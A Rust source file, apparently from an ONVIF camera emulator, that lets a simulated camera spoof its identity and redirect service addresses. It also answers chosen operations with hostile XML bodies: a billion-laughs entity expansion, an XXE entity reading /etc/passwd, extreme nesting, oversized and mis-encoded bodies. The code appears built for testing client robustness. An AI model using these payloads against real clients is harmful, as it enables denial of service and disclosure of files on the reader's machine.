//! What a camera pretends to be: another device, elsewhere, or one that attacks its reader. Set in the camera file, or while the
//! camera runs, so that a device can be exchanged behind an address that stays.

use serde::{Deserialize, Serialize};

/// Where a camera differs from what its file says. What is absent is as in the file.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Guise {
    /// `Manufacturer`.
    pub make: Option<String>,
    /// `Model`.
    pub model: Option<String>,
    /// `FirmwareVersion`.
    pub firmware: Option<String>,
    /// `SerialNumber`.
    pub serial: Option<String>,
    /// `HwAddress`.
    pub mac: Option<String>,
    /// Scope items.
    pub scopes: Option<Vec<String>>,
    /// Realm of the Digest challenges, RTSP and HTTP.
    pub realm: Option<String>,
    /// Realm of RTSP alone.
    pub rtsp_realm: Option<String>,
    /// Whether nothing but Basic is offered, by HTTP and by RTSP.
    pub basic_only: bool,
    /// Host and port that GetServices and GetCapabilities name in place of the camera's own.
    pub services_at: Option<String>,
    /// Host and port that GetStreamUri names.
    pub streams_at: Option<String>,
    /// An operation whose answer is an attack.
    pub attack: Option<Attack>,
}

/// One operation and what stands in place of its answer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Attack {
    /// Local name of the operation.
    pub on: String,
    /// What is sent.
    pub with: Weapon,
}

/// Bodies that break careless readers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Weapon {
    /// Entities that grow ten times with each of nine steps.
    Entities,
    /// An entity that names a file of the reader's machine.
    File,
    /// Ten thousand elements, one inside the other.
    Deep,
    /// Three megabytes of text.
    Long,
    /// A declared encoding that the bytes do not have.
    Encoding,
    /// Something cut off in the middle of a tag.
    Broken,
}

impl Weapon {
    /// The body.
    #[must_use]
    pub fn body(self) -> Vec<u8> {
        let document = |head: &str, body: &str| {
            format!(
                "{head}<e:Envelope xmlns:e=\"{}\"><e:Body>{body}</e:Body></e:Envelope>",
                super::onvif::soap::ENVELOPE
            )
        };
        match self {
            Self::Entities => {
                let steps: String =
                    (1..=9).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
                document(&format!("<?xml version=\"1.0\"?><!DOCTYPE e [<!ENTITY l0 \"laugh\">{steps}]>"), "<a>&l9;</a>")
                    .into_bytes()
            }
            Self::File => document(
                "<?xml version=\"1.0\"?><!DOCTYPE e [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>",
                "<a>&f;</a>",
            )
            .into_bytes(),
            Self::Deep => document("", &format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000))).into_bytes(),
            Self::Long => document("", &"x".repeat(3 * 1024 * 1024)).into_bytes(),
            Self::Encoding => {
                let mut bytes = document("<?xml version=\"1.0\" encoding=\"UTF-16\"?>", "<a/>").into_bytes();
                bytes.extend_from_slice(&[0xff, 0xfe, 0xfd]);
                bytes
            }
            Self::Broken => document("", "<a").into_bytes()[..60].to_vec(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bodies_are_what_they_are_called() {
        let text = |weapon: Weapon| String::from_utf8_lossy(&weapon.body()).into_owned();
        assert_eq!(text(Weapon::Entities).matches("<!ENTITY").count(), 10);
        assert!(text(Weapon::File).contains("file:///etc/passwd"));
        assert_eq!(text(Weapon::Deep).matches("<a>").count(), 10_000);
        assert!(Weapon::Long.body().len() > 3_000_000);
        assert!(String::from_utf8(Weapon::Encoding.body()).is_err());
        assert!(!text(Weapon::Broken).contains("</e:Envelope>"));
    }
}
